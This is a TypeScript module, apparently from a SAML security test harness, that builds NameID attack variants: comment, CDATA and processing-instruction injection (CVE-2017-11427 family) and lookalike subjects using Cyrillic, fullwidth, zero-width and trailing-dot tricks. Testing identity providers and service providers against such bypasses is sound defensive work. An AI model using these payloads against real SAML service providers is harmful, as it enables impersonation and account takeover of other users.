import type { AttackContext } from './context.js';
import { withNameId } from './signature.js';
import type { AttackVariant } from './variant.js';

/**
 * The attacker owns `<victim>.evil.test` at the IdP and gets it signed; markup inside the NameID
 * text then hides the tail from a parser that reads only the first text node.
 */
function injected(ctx: AttackContext, markup: (tail: string) => string): string {
  const tail = '.evil.test';
  const owned = `${ctx.address.nameId}${tail}`;
  return withNameId(ctx.issue({ fields: { nameId: owned } }), `${ctx.address.nameId}${markup(tail)}`);
}

/** A NameID that reads as the victim's but is another string, signed by the IdP. */
const lookalike = (id: string, title: string, change: (victim: string) => string): AttackVariant => ({
  id: `lookalike-${id}`,
  title: `lookalike NameID: ${title}`,
  reference: 'Unicode TR39 §4 (confusables); CWE-1007',
  build: (ctx) => ctx.issue({ fields: { nameId: change(ctx.address.nameId) } }),
});

/** Lookalike letters: the first Latin letter of the victim's name replaced. */
const LOOKALIKE_OF: Record<string, string> = {
  a: 'а',
  c: 'с',
  e: 'е',
  o: 'о',
  p: 'р',
  s: 'ѕ',
  x: 'х',
  y: 'у',
};

function cyrillic(victim: string): string {
  const i = [...victim].findIndex((c) => c in LOOKALIKE_OF);
  return i < 0 ? `а${victim}` : victim.slice(0, i) + LOOKALIKE_OF[victim[i] as string] + victim.slice(i + 1);
}

/** NameID markup injection and lookalike subjects. */
export const NAMEID: AttackVariant[] = [
  {
    id: 'nameid-comment',
    title: 'comment injection in NameID: victim<!---->.evil.test (the IdP signed victim.evil.test)',
    reference: 'CVE-2017-11427/11428/11429 (Duo 2018)',
    build: (ctx) => injected(ctx, (tail) => `<!---->${tail}`),
  },
  {
    id: 'nameid-cdata',
    title: 'CDATA injection in NameID: victim<![CDATA[.evil.test]]> (C14N reads the same text)',
    reference: 'CVE-2017-11427 family; C14N 1.0 §1.1 (CDATA)',
    build: (ctx) => injected(ctx, (tail) => `<![CDATA[${tail}]]>`),
  },
  {
    id: 'nameid-processing-instruction',
    title: 'processing instruction in NameID: victim<?x?>.evil.test',
    reference: 'CVE-2017-11427 family; C14N 1.0 §2.3 (PIs kept)',
    build: (ctx) => injected(ctx, (tail) => `<?fedsim attack?>${tail}`),
  },
  lookalike('cyrillic', 'a Cyrillic letter in place of a Latin one', cyrillic),
  lookalike('fullwidth', 'fullwidth letters (NFKC folds them to the victim)', (v) =>
    v.replace(/[a-z]/, (c) => String.fromCodePoint((c.codePointAt(0) as number) - 0x61 + 0xff41)),
  ),
  lookalike(
    'zero-width',
    "a zero-width space inside the victim's name",
    (v) => `${v.slice(0, 1)}\u200b${v.slice(1)}`,
  ),
  lookalike('trailing-dot', 'a trailing dot after the domain', (v) => `${v}.`),
];
